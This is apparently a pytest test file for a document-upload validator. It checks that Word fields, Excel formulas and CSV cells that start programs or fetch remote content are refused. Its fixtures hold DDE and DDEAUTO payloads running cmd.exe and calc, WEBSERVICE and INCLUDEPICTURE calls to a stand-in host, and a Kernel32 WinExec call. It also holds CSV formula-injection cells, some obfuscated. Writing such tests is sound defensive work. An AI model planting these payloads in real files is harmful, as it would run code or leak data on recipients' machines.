"""What starts a program or fetches something as fields, formulas and cells do."""

from __future__ import annotations

import pytest

from tests.attack.packages import built, code, excel, looked, refused, word


@pytest.mark.parametrize(
    "body",
    [
        code(r" DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc.exe&quot; "),
        code("D", "D", "E", " excel x y"),
        code(" dde excel"),
        code("&#68;DE excel"),
        '<w:fldSimple w:instr=" DDEAUTO excel x "/>',
        "<w:fldSimple w:instr=' INCLUDEPICTURE \"https://far.example/x\" '/>",
        code(' INCLUDEPICTURE "https://far.example/x.png" \\d '),
        code(' INCLUDETEXT "\\\\\\\\far.example\\\\x.docx" '),
        code(" LINK Excel.Sheet.12 https://far.example/x "),
        code(" RD https://far.example/x "),
        code(" DATABASE \\d x "),
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE x</w:instrText></w:r>',
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:t>DDE x y</w:t></w:r>',
        "<w:del><w:fldChar w:fldCharType='begin'/><w:delInstrText>DDE x</w:delInstrText></w:del>",
    ],
)  # fmt: skip
def test_a_field_that_starts_or_fetches_something_is_refused(body: str) -> None:
    assert "that starts a program or fetches" in refused(word(body=body))
    header = f'<w:hdr xmlns:w="urn:w">{body}</w:hdr>'
    assert "that starts a program or fetches" in refused(word({"word/header1.xml": header}))


@pytest.mark.parametrize(
    "body",
    [
        built("", "QUOTE 68 68 69", " excel x"),
        built("D", "QUOTE 68 69", " excel x"),
        built("HYPERLINK ", "QUOTE 92 92", ""),
    ],
)
def test_a_field_whose_name_another_builds_is_refused(body: str) -> None:
    assert "put together by another" in refused(word(body=body))


@pytest.mark.parametrize(
    "instruction",
    [
        ' HYPERLINK "\\\\\\\\far.example\\\\x" ',
        ' HYPERLINK \\o "Read this" "file://far.example/x" ',
        " HYPERLINK \\\\\\\\far.example\\\\x",
        ' hyperlink "run.exe"',
    ],
)
def test_a_link_as_a_field_leads_to_pages_alone(instruction: str) -> None:
    said = refused(word(body=code(instruction.replace('"', "&quot;"))))
    assert "Links may only lead to web pages" in said


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|'/c calc'!A0",
        "1+c&#109;d|'/c calc'!A0",
        '_xlfn.WEBSERVICE("https://far.example/"&amp;A1)',
        "_xlfn.IMAGE(&quot;https://far.example/x.png&quot;)",
        "IFERROR(RTD(&quot;x&quot;,,&quot;y&quot;),1)",
        "CALL(&quot;Kernel32&quot;,&quot;WinExec&quot;)",
        "'\\\\far.example\\x\\[Book.xlsx]Sheet1'!A1",
        "SUM('A 1'!B2)+'https://far.example/[B.xlsx]S'!A1",
    ],
)
def test_a_formula_that_starts_or_fetches_something_is_refused(formula: str) -> None:
    assert "starts a program or fetches" in refused(excel(cells=f'<c r="A1"><f>{formula}</f></c>'))
    named = (
        f"<workbook><definedNames><definedName>{formula}</definedName></definedNames></workbook>"
    )
    assert "starts a program or fetches" in refused(excel({"xl/workbook.xml": named}))


def test_a_formula_links_to_pages_alone_and_is_no_longer_than_anybody_types() -> None:
    far = '<c r="A1"><f>HYPERLINK("\\\\far.example\\x","Figures")</f></c>'
    assert "Links may only lead" in refused(excel(cells=far))
    long = f'<c r="A1"><f>{"1+" * 20_000}1</f></c>'
    assert "longer than can be checked" in refused(excel(cells=long))


@pytest.mark.parametrize(
    "cell",
    [
        "=cmd|'/c calc'!A0",
        "+cmd|'/c calc'!A0",
        "-2+cmd|'/c calc'!A0",
        "@SUM(1+1)*cmd|'/c calc'!A0",
        "\"=cmd|'/c a,b'!A0\"",
        '"=WEBSERVICE(""https://far.example/"")"',
        '=HYPERLINK("\\\\far.example\\x")',
    ],
)
@pytest.mark.parametrize("mark", [",", ";", "\t"])
def test_a_cell_of_a_csv_that_a_spreadsheet_would_start_is_refused(cell: str, mark: str) -> None:
    written = cell if cell.startswith('"') else '"' + cell.replace('"', '""') + '"'
    for first, encoding in (("Bradford", "utf-8"), ("Café – Keighley", "cp1252")):
        said = refused(f"Place{mark}Homes\n{first}{mark}{written}\n".encode(encoding))
        assert "starts a program or fetches" in said or "Links may only lead" in said


def test_figures_and_words_of_a_csv_are_no_formulas() -> None:
    for cell in ("-5", "- warm | dry", "+44 1274 000000", "=A1+B1", "Yes | no!"):
        assert looked(f"Place,Note\nBradford,{cell}\n".encode()) == {"type": "csv"}
